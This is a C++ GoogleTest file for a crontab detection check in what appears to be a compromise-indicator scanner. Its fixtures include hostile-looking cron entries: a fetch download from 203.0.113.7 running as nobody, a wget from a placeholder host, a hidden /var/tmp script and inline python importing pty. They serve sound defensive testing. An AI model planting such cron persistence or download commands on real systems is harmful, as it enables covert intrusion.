#include "nsioc/checks/cronjob_check.hpp"
#include "nsioc/fs/memory_filesystem.hpp"

#include <gtest/gtest.h>

using namespace nsioc;
using core::Confidence;
using core::FindingKind;

class CronjobCheckTest : public ::testing::Test {
protected:
    void SetUp() override {
        rules_ = config::DefaultRules().cronjob;
        view_.AddFile("/etc/crontab",
                      "SHELL=/bin/sh\n"
                      "# minute hour mday month wday who command\n"
                      "0 * * * * root newsyslog\n"
                      "1,31 0-5 * * * root adjkerntz -a\n");
    }

    checks::CheckResult Run() const {
        return checks::CheckCronjobs(view_, rules_);
    }

    config::CronjobRules rules_;
    fs::MemoryFileSystem view_;
};

TEST_F(CronjobCheckTest, StockSystemCrontabIsClean) {
    auto result = Run();
    EXPECT_TRUE(result.findings.empty());
    EXPECT_FALSE(result.coverage_reduced);
    EXPECT_EQ(result.entries_examined, 1u);
    EXPECT_EQ(result.check_name, "cronjob");
}

TEST_F(CronjobCheckTest, UserCrontabOwnedByNobody) {
    view_.AddFile("/var/cron/tabs/nobody", "* * * * * /usr/bin/id\n", 0600);

    auto result = Run();
    ASSERT_EQ(result.findings.size(), 1u);
    EXPECT_EQ(result.findings[0].Kind(), FindingKind::CRONJOB_USER);
    EXPECT_EQ(result.findings[0].GetConfidence(), Confidence::HIGH);
    EXPECT_EQ(result.findings[0].Message(), "Crontab by nobody user observed: /usr/bin/id");
    EXPECT_EQ(result.findings[0].Path(), "/var/cron/tabs/nobody");
    EXPECT_EQ(result.entries_examined, 2u);
}

TEST_F(CronjobCheckTest, SystemEntryRunningAsNobodyWithDownload) {
    view_.AddFile("/etc/cron.d/update", "@hourly nobody /usr/bin/fetch -q http://203.0.113.7/a\n");

    auto result = Run();
    ASSERT_EQ(result.findings.size(), 3u);

    EXPECT_EQ(result.findings[0].Kind(), FindingKind::CRONJOB_USER);
    EXPECT_EQ(result.findings[0].Message(),
              "Crontab by nobody user observed: /usr/bin/fetch -q http://203.0.113.7/a");

    EXPECT_EQ(result.findings[1].Kind(), FindingKind::CRONJOB_SUSPICIOUS);
    EXPECT_EQ(result.findings[1].GetConfidence(), Confidence::MEDIUM);
    EXPECT_EQ(result.findings[1].Message(),
              "ip address in crontab command (203.0.113.7): /usr/bin/fetch -q http://203.0.113.7/a");

    EXPECT_EQ(result.findings[2].Kind(), FindingKind::CRONJOB_SUSPICIOUS);
    EXPECT_EQ(result.findings[2].GetConfidence(), Confidence::HIGH);
    EXPECT_EQ(result.findings[2].Path(), "/etc/cron.d/update");
}

TEST_F(CronjobCheckTest, CommandFromVarTmp) {
    view_.AddFile("/var/cron/tabs/root", "*/10 * * * * /var/tmp/.update.sh\n", 0600);

    auto result = Run();
    ASSERT_EQ(result.findings.size(), 1u);
    EXPECT_EQ(result.findings[0].GetConfidence(), Confidence::MEDIUM);
    EXPECT_EQ(result.findings[0].Message(),
              "/var/tmp in crontab command (/var/tmp): /var/tmp/.update.sh");
}

TEST_F(CronjobCheckTest, InlineInterpreterIsHigh) {
    view_.AddFile("/var/cron/tabs/root", "@reboot python -c 'import pty'\n", 0600);

    auto result = Run();
    ASSERT_EQ(result.findings.size(), 1u);
    EXPECT_EQ(result.findings[0].GetConfidence(), Confidence::HIGH);
    EXPECT_EQ(result.findings[0].Message(),
              "inline interpreter in crontab command (python -c): python -c 'import pty'");
}

TEST_F(CronjobCheckTest, OrdinaryUserCrontabIsClean) {
    view_.AddFile("/var/cron/tabs/root", "0 0 * * * /usr/bin/logger started\n", 0600);

    auto result = Run();
    EXPECT_TRUE(result.findings.empty());
}

TEST_F(CronjobCheckTest, UnreadableCrontabReducesCoverage) {
    view_.AddFile("/var/cron/tabs/operator", "* * * * * /bin/true\n", 0600).content_readable = false;

    auto result = Run();
    EXPECT_TRUE(result.findings.empty());
    EXPECT_TRUE(result.coverage_reduced);
    EXPECT_EQ(result.entries_examined, 1u);
}

TEST_F(CronjobCheckTest, MalformedLinesReduceCoverageButRestIsChecked) {
    view_.AddFile("/var/cron/tabs/root", "garbage\n* * * * * wget http://x/y\n", 0600);

    auto result = Run();
    EXPECT_TRUE(result.coverage_reduced);
    ASSERT_EQ(result.findings.size(), 1u);
    EXPECT_EQ(result.findings[0].GetConfidence(), Confidence::HIGH);
}

TEST_F(CronjobCheckTest, BinaryCrontabIsSkipped) {
    view_.AddFile("/var/cron/tabs/root", std::string("\0\0\0\0", 4), 0600);

    auto result = Run();
    EXPECT_TRUE(result.coverage_reduced);
    EXPECT_EQ(result.entries_examined, 1u);
}

TEST_F(CronjobCheckTest, SubdirectoriesOfCrontabDirectoryAreNotRead) {
    view_.AddFile("/var/cron/tabs/archive/nobody", "* * * * * /usr/bin/id\n", 0600);

    auto result = Run();
    EXPECT_TRUE(result.findings.empty());
}

TEST_F(CronjobCheckTest, OversizedCommandIsMatchedOnItsPrefix) {
    // Long enough to exhaust the stack of an unbounded std::regex_search
    std::string payload(120000, 'A');
    view_.AddFile("/var/cron/tabs/root", "* * * * * /bin/sh -c 'echo " + payload + "'\n"
                                         "*/5 * * * * /var/tmp/.x\n", 0600);

    auto result = Run();
    ASSERT_TRUE(result.coverage_reduced);
    EXPECT_EQ(result.notes[0], "/var/cron/tabs/root:1: command longer than 4096 bytes only partially matched");

    ASSERT_EQ(result.findings.size(), 2u);
    EXPECT_EQ(result.findings[0].Message().rfind("base64 payload in crontab command (", 0), 0u);
    EXPECT_LE(result.findings[0].Message().size(), 2 * rules_.max_command_length + 64);
    EXPECT_EQ(result.findings[1].Message(), "/var/tmp in crontab command (/var/tmp): /var/tmp/.x");
}

TEST_F(CronjobCheckTest, InvalidPatternIsARulesError) {
    rules_.patterns.push_back({"broken", "([", Confidence::LOW});
    EXPECT_THROW(Run(), config::RulesError);
}

TEST(CronjobCheckStandaloneTest, NoCrontabsAtAll) {
    fs::MemoryFileSystem view;
    auto result = checks::CheckCronjobs(view, config::DefaultRules().cronjob);
    EXPECT_TRUE(result.findings.empty());
    EXPECT_EQ(result.entries_examined, 0u);
    ASSERT_TRUE(result.coverage_reduced);
    EXPECT_EQ(result.notes[0], "None of the crontab locations exist in this target");
}

TEST(CronjobCheckStandaloneTest, EmptyCrontabDirectoryIsFullCoverage) {
    fs::MemoryFileSystem view;
    view.AddDirectory("/var/cron/tabs");
    auto result = checks::CheckCronjobs(view, config::DefaultRules().cronjob);
    EXPECT_FALSE(result.coverage_reduced);
}
